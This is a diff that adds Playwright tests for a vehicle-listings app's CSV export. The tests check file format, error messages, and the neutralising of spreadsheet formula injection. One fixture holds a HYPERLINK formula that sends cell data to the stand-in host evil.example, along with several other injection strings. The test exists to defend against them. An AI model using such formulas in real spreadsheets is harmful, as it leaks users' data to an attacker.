@@ -1,0 +1,150 @@
+import { mkdir, mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { expect, test } from 'playwright/test';
+import { parseCsv } from '../shared/listings/parse-csv.ts';
+import {
+  type Browser,
+  expectAsked,
+  expectPage,
+  openListings,
+  PLATE,
+  platesIn,
+  sampleListings,
+  sampleSearch,
+  sharedCountedApp,
+  TOTAL,
+} from './fixtures/listings.ts';
+import { choose } from './fixtures/screens.ts';
+
+const counted = sharedCountedApp();
+let browser: Browser;
+let folder: string;
+
+test.beforeAll(async () => {
+  folder = await mkdtemp(path.join(tmpdir(), 'platedesk-csv-'));
+});
+test.afterAll(() => rm(folder, { recursive: true, force: true }));
+
+const save = () => browser.page.getByRole('button', { name: /^Save CSV/ }).click();
+const messages = () => browser.page.getByRole('status', { name: 'Messages' });
+
+/** The file as a spreadsheet reads it: a row by the names of its columns. */
+async function readRows(file: string): Promise<Record<string, string>[]> {
+  const bytes = await readFile(file);
+  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const text = bytes.toString('utf8').slice(1);
+  expect(text.endsWith('\r\n')).toBe(true);
+  // A strict reader: it throws where a line does not end with CR LF or a quote is wrong.
+  const [head = [], ...rows] = parseCsv(text);
+  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ''])));
+}
+
+test('what is loaded is saved where the dialog says, and asks nothing', async () => {
+  const { page } = (browser = await openListings(counted.app().page));
+  await choose(page, 'Sample');
+  browser = await openListings(page);
+  await browser.filters.getByRole('button', { name: 'Search' }).click();
+  await expectPage(browser, TOTAL);
+  await page.keyboard.press('n');
+  await expectPage(browser, TOTAL, 2);
+  await page.getByRole('button', { name: 'Save CSV (20)' }).waitFor();
+  const file = path.join(folder, 'sample.csv');
+  await counted.app().saveTo(file);
+  await save();
+  await expect(messages()).toContainText('Saved sample.csv, 20 listings');
+  const rows = await readRows(file);
+  const all = (await sampleListings()).slice(0, 20);
+  expect(rows.map((row) => row['Plate'])).toEqual(all.map(({ vrm }) => vrm));
+  for (const [at, listing] of all.entries())
+    expect(rows[at]).toMatchObject({
+      Description: listing.description,
+      'Price (£)': String(listing.price),
+      'Mileage (miles)': String(listing.mileage),
+      Dealer: listing.dealer?.name,
+      'Advert text': listing.adText,
+      Location: listing.location ?? '',
+      Environment: 'Sample',
+      Version: '3.0',
+    });
+  expect(await readdir(folder)).toEqual(['sample.csv']);
+  await choose(page, 'Production');
+  await expectAsked(counted, []);
+});
+
+test('text that a spreadsheet would calculate is made harmless; comparables are named', async () => {
+  const record = await sampleSearch({});
+  const [first = {}, second = {}, ...others] = record.listings ?? [];
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+  counted.plan.instead = ({ path: asked }) =>
+    asked.startsWith('/similar-listings/')
+      ? Response.json({
+          ...record,
+          listings: [
+            {
+              ...first,
+              description: formula,
+              adText: '@SUM(1,2)\r\nsecond line, with a comma and a "quote"',
+              colour: '\t=1+1',
+              location: '-1+1',
+              fuelType: '+44 20 7946 0000',
+            },
+            second,
+            ...others,
+          ],
+        })
+      : undefined;
+  browser = await openListings(counted.app().page, PLATE);
+  const { page, rows, listing, filters } = browser;
+  await filters.getByRole('button', { name: 'Search' }).click();
+  await expectPage(browser, TOTAL);
+  await rows.nth(0).getByRole('button').first().click();
+  await listing.getByRole('button', { name: 'Mark as comparable' }).click();
+  await listing.getByLabel('Note').fill('=1+1');
+  const file = path.join(folder, 'hostile.csv');
+  await counted.app().saveTo(file);
+  await save();
+  await expect(messages()).toContainText('Saved hostile.csv, 10 listings');
+  const [row, next] = await readRows(file);
+  expect(row).toMatchObject({
+    Description: `'${formula}`,
+    'Advert text': `'@SUM(1,2)\r\nsecond line, with a comma and a "quote"`,
+    Colour: "'\t=1+1",
+    Location: "'-1+1",
+    Fuel: "'+44 20 7946 0000",
+    Comparable: 'yes',
+    Note: "'=1+1",
+    Environment: 'Production',
+  });
+  expect(next).toMatchObject({ Description: second.description, Comparable: '', Note: '' });
+  // On screen it is what it was: text.
+  await expect(listing.getByRole('heading').first()).toHaveText(formula);
+  await listing.getByRole('button', { name: 'Copy row' }).click();
+  await expect(page.getByText('Row copied')).toBeVisible();
+  const copied = await counted.app().copied();
+  expect(copied.split('\t')[0]).toBe(`'${formula}`);
+  expect(copied).not.toMatch(/[\r\n]/);
+});
+
+test('a dialog that is cancelled says nothing; a place that cannot be written is said plainly', async () => {
+  const { page } = browser;
+  const dismiss = messages().getByRole('button', { name: 'Dismiss' });
+  while ((await dismiss.count()) > 0) await dismiss.first().click();
+  await counted.app().saveTo(undefined);
+  await save();
+  // The button waits for the dialog, and then nothing is said.
+  await expect(page.getByRole('button', { name: /^Save CSV/ })).toBeEnabled();
+  await expect(messages()).toBeEmpty();
+
+  await counted.app().saveTo(path.join(folder, 'gone', 'a.csv'));
+  await save();
+  await expect(messages()).toContainText(
+    'The file was not saved. That folder is not there any more. Choose another one.',
+  );
+  await mkdir(path.join(folder, 'taken.csv', 'inside'), { recursive: true });
+  await counted.app().saveTo(path.join(folder, 'taken.csv'));
+  await save();
+  await expect(messages()).toContainText('There is a folder of that name. Choose another name.');
+  expect((await readdir(folder)).toSorted()).toEqual(['hostile.csv', 'sample.csv', 'taken.csv']);
+  expect(await platesIn(browser)).toHaveLength(10);
+});
